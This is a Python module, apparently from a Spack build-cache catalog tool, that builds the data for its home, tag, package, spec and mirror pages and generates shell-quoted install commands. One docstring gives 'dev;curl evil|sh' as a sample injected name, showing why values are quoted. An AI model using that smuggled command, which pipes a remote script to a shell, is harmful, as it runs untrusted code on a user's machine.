"""The data of every page, built once from the catalog and shown three ways.

Each builder returns a frozen struct: the static site (``site``) and the live server
(``serve``) render it with the same templates (``render``) and publish it as JSON beside
the HTML; the CLI's ``show`` prints it. The structs are the public JSON API: their
docstrings become the OpenAPI document's descriptions. Unknown tags, packages and
hashes raise :class:`~cachedex.errors.LookupFailed` subclasses.
"""

from __future__ import annotations

import itertools
import shlex
from collections import Counter
from collections.abc import Iterator, Sequence
from operator import attrgetter

import msgspec

from ..catalog import Catalog, Edge, MirrorState, SpecSummary
from ..errors import UnknownPackage, UnknownSpec
from ..query import Query
from ..values import ROOT_STACK, decode_variants
from .files import name_problem

__all__ = [
    "FACETS",
    "Holder",
    "HomePage",
    "Install",
    "MirrorsPage",
    "PackagePage",
    "PackageRow",
    "SpecPage",
    "TagPage",
    "TagRow",
    "home_page",
    "install_commands",
    "mirrors_page",
    "package_page",
    "package_pages",
    "resolve",
    "spec_page",
    "spec_page_from",
    "tag_page",
]

#: Facets of the tag and package pages: (key in the URL, label).
FACETS = (("stack", "Stack"), ("os", "OS"), ("target", "Target"), ("compiler", "Compiler"), ("platform", "Platform"))


class TagRow(msgspec.Struct, frozen=True):
    """A tag with its totals, as of its last sync."""

    name: str
    specs: int  #: specs its root mirror lists
    packages: int
    stacks: int  #: mirrors besides the root
    size: int  #: bytes of the listed specs whose size is known
    synced_at: float | None  #: epoch seconds of the last sync
    layout: int | None  #: build-cache layout version of the root mirror
    db_version: int | None  #: Database version of the root index


class HomePage(msgspec.Struct, frozen=True, tag_field="page", tag="home"):
    """The home page: every tag."""

    tags: tuple[TagRow, ...]


class PackageRow(msgspec.Struct, frozen=True):
    """A package of a tag, summarising its listed specs."""

    name: str
    specs: int
    versions: tuple[str, ...]
    compilers: tuple[str, ...]
    platforms: tuple[str, ...]
    oses: tuple[str, ...]
    targets: tuple[str, ...]
    stacks: tuple[str, ...]  #: ``root`` included
    size: int  #: bytes of its specs whose size is known
    has_page: bool = True  #: False for a name that cannot be a folder name: it has no page to link to


class TagPage(msgspec.Struct, frozen=True, tag_field="page", tag="tag"):
    """A tag's page: one row per package, and facet counts (in packages)."""

    tag: TagRow
    packages: tuple[PackageRow, ...]
    facets: dict[str, dict[str, int]]  #: facet -> value -> packages having it


class PackagePage(msgspec.Struct, frozen=True, tag_field="page", tag="package"):
    """A package's specs in one tag, facet counts (in specs), and its other tags."""

    tag: str
    name: str
    specs: tuple[SpecSummary, ...]
    facets: dict[str, dict[str, int]]  #: facet -> value -> specs having it
    other_tags: tuple[tuple[str, int], ...]  #: (tag, specs) of the other tags listing it
    size: int  #: bytes of its specs whose size is known


class Holder(msgspec.Struct, frozen=True, gc=False):  # only strings: not tracked by the GC
    """A mirror whose index holds a spec."""

    tag: str
    stack: str
    listed: bool  #: the mirror has the binary (``in_buildcache``)
    url: str


class Install(msgspec.Struct, frozen=True, gc=False):
    """How to install a spec from one mirror that has its binary, as shell commands."""

    tag: str
    stack: str
    commands: str


class SpecPage(msgspec.Struct, frozen=True, tag_field="page", tag="spec"):
    """Everything known about one DAG hash."""

    spec: SpecSummary
    holders: tuple[Holder, ...]
    dependencies: tuple[Edge, ...]
    closure: tuple[Edge, ...]  #: link and run dependencies, transitively
    dependents: tuple[Edge, ...]  #: that have a binary in the cache
    closure_size: int  #: this binary and its closure's, in bytes (known sizes only)
    closure_unknown: int  #: binaries of the spec and its closure whose size is unknown
    install: tuple[Install, ...]
    node: str  #: the raw node JSON as the index holds it


class MirrorsPage(msgspec.Struct, frozen=True, tag_field="page", tag="mirrors"):
    """Every mirror of every tag, and what its last read found."""

    mirrors: tuple[MirrorState, ...]


def _tag_rows(catalog: Catalog, names: list[str] | None = None) -> list[TagRow]:
    roots = {m.tag: m for m in catalog.mirrors() if m.stack == ROOT_STACK}
    return [
        TagRow(
            s.tag,
            s.specs,
            s.packages,
            s.stacks,
            s.size,
            s.synced_at,
            roots[s.tag].layout if s.tag in roots else None,
            roots[s.tag].db_version if s.tag in roots else None,
        )
        for s in catalog.tag_stats(names)
    ]


def home_page(catalog: Catalog) -> HomePage:
    """Every tag with its totals."""
    return HomePage(tuple(_tag_rows(catalog)))


def _tag_row(catalog: Catalog, tag: str) -> TagRow:
    catalog.require_tag(tag)
    (row,) = _tag_rows(catalog, [tag])
    return row


def tag_page(catalog: Catalog, tag: str) -> TagPage:
    """One row per package of a tag, with the facet counts (in packages)."""
    row = _tag_row(catalog, tag)
    packages: list[PackageRow] = []
    facets: dict[str, Counter[str]] = {key: Counter() for key, _ in FACETS}
    # Raw rows, not decoded specs: a tag page needs no variants, and a big tag has
    # 250,000 rows.
    for name, group in itertools.groupby(catalog.listed_rows(tag), key=attrgetter("name")):
        count, size = 0, 0
        values: dict[str, set[str]] = {key: set() for key, _ in FACETS}
        versions: set[str] = set()
        for spec in group:
            count += 1
            size += spec.size or 0
            versions.add(spec.version)
            values["compiler"].add(spec.compiler)
            values["os"].add(spec.os)
            values["platform"].add(spec.platform)
            values["target"].add(spec.target)
            values["stack"].update(spec.stacks.split("\x1f"))
        for key, found in values.items():
            facets[key].update(found)
        packages.append(
            PackageRow(
                name=name,
                specs=count,
                versions=tuple(sorted(versions, reverse=True)),
                compilers=tuple(sorted(values["compiler"])),
                platforms=tuple(sorted(values["platform"])),
                oses=tuple(sorted(values["os"])),
                targets=tuple(sorted(values["target"])),
                stacks=tuple(sorted(values["stack"])),
                size=size,
                has_page=name_problem(name) is None,
            )
        )
    return TagPage(row, tuple(packages), {k: dict(sorted(c.items())) for k, c in facets.items()})


def package_page(catalog: Catalog, tag: str, name: str) -> PackagePage:
    """A package's specs in a tag, with facet counts (in specs) and its other tags."""
    _tag_row(catalog, tag)
    found = catalog.search(Query(name=name), tag=tag, limit=1_000_000)
    if not found.total:
        raise UnknownPackage(name, tag)
    return _package_page(tag, name, found.specs, catalog.package_tags(name))


def package_pages(
    catalog: Catalog,
    tag: str,
    *,
    part: int = 0,
    parts: int = 1,
    package_tags: dict[str, list[tuple[str, int]]] | None = None,
) -> Iterator[PackagePage]:
    """The page of every package of a tag (or of share ``part`` of ``parts``, as
    :meth:`Catalog.listed_rows` splits them), streamed from one pass over the tag:
    what :func:`package_page` gives for each, without a query per package.
    ``package_tags`` is :meth:`Catalog.all_package_tags`, if the caller has it."""
    tags_of = package_tags if package_tags is not None else catalog.all_package_tags()
    rows = catalog.listed_rows(tag, part=part, parts=parts)
    for name, group in itertools.groupby(rows, key=attrgetter("name")):
        specs = sorted(
            (
                SpecSummary(
                    hash=row.hash,
                    name=row.name,
                    version=row.version,
                    compiler=row.compiler,
                    platform=row.platform,
                    os=row.os,
                    target=row.target,
                    variants=decode_variants(row.variants),
                    size=row.size,
                    tags=(tag,),
                    stacks=tuple(sorted(row.stacks.split("\x1f"))),
                )
                for row in group
            ),
            key=lambda s: (s.version, s.hash),
        )
        yield _package_page(tag, name, tuple(specs), tags_of.get(name, []))


def _package_page(
    tag: str, name: str, specs: tuple[SpecSummary, ...], package_tags: list[tuple[str, int]]
) -> PackagePage:
    # Counter over a whole column counts in C: a site's 10,000 package pages cost a
    # second less than with an update per spec.
    columns = {
        "stack": itertools.chain.from_iterable(map(attrgetter("stacks"), specs)),
        "os": map(attrgetter("os"), specs),
        "target": map(attrgetter("target"), specs),
        "compiler": map(attrgetter("compiler"), specs),
        "platform": map(attrgetter("platform"), specs),
    }
    others = tuple((t, n) for t, n in package_tags if t != tag)
    return PackagePage(
        tag,
        name,
        specs,
        {key: dict(sorted(Counter(columns[key]).items())) for key, _ in FACETS},
        others,
        sum(s.size or 0 for s in specs),
    )


def install_commands(tag: str, stack: str, url: str, dag_hash: str) -> str:
    """The shell commands that install ``dag_hash`` from the mirror ``url``.

    Users paste them into a shell, and names and URLs come from mirrors and config
    files (a remote ``tags_from`` file among them): every value is shell-quoted, so a
    name like ``dev;curl evil|sh`` stays one argument. Plain names are left as they are."""
    mirror = f"{tag}-{stack}" if stack != ROOT_STACK else tag
    return (
        f"spack mirror add {shlex.quote(mirror)} {shlex.quote(url)}\n"
        "spack buildcache keys --install --trust\n"
        f"spack install --cache-only {shlex.quote('/' + dag_hash)}"
    )


def spec_page(catalog: Catalog, dag_hash: str) -> SpecPage:
    """Everything known about one full hash."""
    spec = catalog.spec_summary(dag_hash)
    if spec is None:
        raise UnknownSpec(dag_hash, f"no spec with hash {dag_hash!r} in the catalog")
    return spec_page_from(
        spec,
        holders=[Holder(t, s, listed, url) for t, s, listed, url in catalog.holders(dag_hash)],
        dependencies=catalog.edges_of(dag_hash),
        # A spec is not its own dependency, even when an index says so (an edge to
        # itself, or a cycle back to it): in its closure it would count twice.
        closure=[edge for edge in catalog.closure(dag_hash) if edge.hash != dag_hash],
        dependents=[e for e in catalog.edges_of(dag_hash, reverse=True) if e.listed],
        node=catalog.node(dag_hash) or "{}",
    )


def spec_page_from(
    spec: SpecSummary,
    *,
    holders: Sequence[Holder],
    dependencies: Sequence[Edge],
    closure: list[Edge],
    dependents: Sequence[Edge],
    node: str,
) -> SpecPage:
    """A spec's page from its parts (read one by one, or from a ``graph.SpecGraph``)."""
    # Only binaries are downloaded: a dependency without one (an external) costs nothing.
    binaries = [e.size for e in closure if e.listed] + ([spec.size] if spec.tags else [])
    return SpecPage(
        spec=spec,
        holders=tuple(holders),
        dependencies=tuple(dependencies),
        closure=tuple(closure),
        dependents=tuple(dependents),
        closure_size=sum(size for size in binaries if size is not None),
        closure_unknown=sum(1 for size in binaries if size is None),
        install=tuple(
            Install(h.tag, h.stack, install_commands(h.tag, h.stack, h.url, spec.hash)) for h in holders if h.listed
        ),
        node=node,
    )


def mirrors_page(catalog: Catalog) -> MirrorsPage:
    """Every mirror of every tag."""
    return MirrorsPage(tuple(catalog.mirrors()))


def resolve(catalog: Catalog, what: str) -> SpecSummary | str:
    """What ``what`` names: a spec (a hash or a unique prefix, with or without a leading
    ``/``) as its summary, or else a package name, returned as it is.

    A leading ``/`` means a hash. Without it, a word that is a known package's name is
    that package, even if it is also the start of a hash. UnknownSpec for a prefix that
    matches no spec or several; UnknownPackage for a name no tag lists."""
    prefix = what.lstrip("/")
    by_hash = what.startswith("/")
    matches = catalog.search(Query(hash_prefix=prefix), limit=2).specs if prefix.isalnum() else ()
    if by_hash or (matches and not catalog.package_tags(what)):
        if not matches:
            raise UnknownSpec(prefix)
        if len(matches) > 1:
            raise UnknownSpec(prefix, f"hash prefix {prefix!r} is ambiguous; give more characters")
        return matches[0]
    if not catalog.package_tags(what):
        raise UnknownPackage(what)
    return what
